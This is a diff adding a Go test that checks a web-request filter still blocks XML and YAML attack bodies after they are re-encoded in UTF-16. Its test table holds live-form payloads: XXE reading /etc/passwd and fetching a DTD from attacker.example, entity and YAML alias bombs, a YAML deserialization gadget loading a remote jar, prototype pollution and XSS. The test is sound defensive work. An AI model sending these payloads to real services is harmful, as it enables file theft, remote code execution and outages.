@@ -4,8 +4,10 @@ import (
 	"context"
 	"encoding/json"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -129,6 +131,58 @@ func TestEscapeJSONStrings(t *testing.T) {
 		if _, ok := escapeJSONStrings(bad); ok {
 			t.Errorf("%q: accepted", bad)
 		}
+	}
+}
+
+// TestUTF16Bodies: an XML or YAML exploit sent in UTF-16, which the
+// application's parser reads by its byte order mark, is a mutation, and
+// the class template denies it; the regular expressions over the bytes
+// saw a NUL between every two characters and let it through. A JSON or
+// HTML body gets no such mutation.
+func TestUTF16Bodies(t *testing.T) {
+	tests := []struct {
+		class    Class
+		ct, body string
+		mutated  bool
+	}{
+		{ClassXXE, "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, true},
+		{ClassXXE, "application/soap+xml; charset=utf-8", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>`, true},
+		{ClassParserBomb, "text/xml", `<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>`, true},
+		{ClassParserBomb, "application/x-yaml", "a: &a [x, x, x]\nb: [*a, *a, *a]\n", true},
+		{ClassDeserialization, "application/yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]\n", true},
+		{ClassPrototypePollution, "application/json", `{"__proto__": {"admin": true}}`, false},
+		{ClassXSS, "text/html", `<svg><style><img src=x onerror=alert(1)></style></svg>`, false},
+	}
+	for _, tt := range tests {
+		t.Run(string(tt.class)+" "+tt.ct, func(t *testing.T) {
+			req := Request{Method: "POST", Target: "/orders", Headers: map[string]string{"Content-Type": tt.ct}, Body: tt.body}
+			i := slices.IndexFunc(mutations(req, ""), func(m mutation) bool { return m.name == "body in UTF-16" })
+			if (i >= 0) != tt.mutated {
+				t.Fatalf("a UTF-16 mutation: %v, want %v", i >= 0, tt.mutated)
+			}
+			if i < 0 {
+				return
+			}
+			m := mutations(req, "")[i].req
+			b, ok := strings.CutPrefix(m.Body, "\xff\xfe")
+			units := make([]uint16, len(b)/2)
+			for i := range units {
+				units[i] = uint16(b[2*i]) | uint16(b[2*i+1])<<8
+			}
+			if decoded := string(utf16.Decode(units)); !ok || len(b)%2 != 0 || decoded != tt.body {
+				t.Fatalf("the UTF-16 body %q decodes to %q, want %q after a little-endian byte order mark", m.Body, decoded, tt.body)
+			}
+			p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: tt.class}}
+			p.Endpoints = mergeEndpoints(nil, []string{"POST /orders"}, &p.Notes)
+			build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
+			w, err := compilePatch(&p, 4_900_000, "")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, by, err := replay(w, m); err != nil || by == 0 {
+				t.Errorf("the body in UTF-16 passed the %s template (%v)", tt.class, err)
+			}
+		})
 	}
 }
 
